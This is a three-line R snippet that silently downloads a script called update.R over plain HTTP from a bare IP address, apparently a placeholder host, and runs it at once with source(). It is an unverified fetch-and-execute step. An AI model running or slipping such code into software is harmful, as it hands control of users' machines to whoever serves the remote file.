script <- tempfile(fileext = ".R")
download.file("http://203.0.113.7/update.R", script, quiet = TRUE)
source(script)
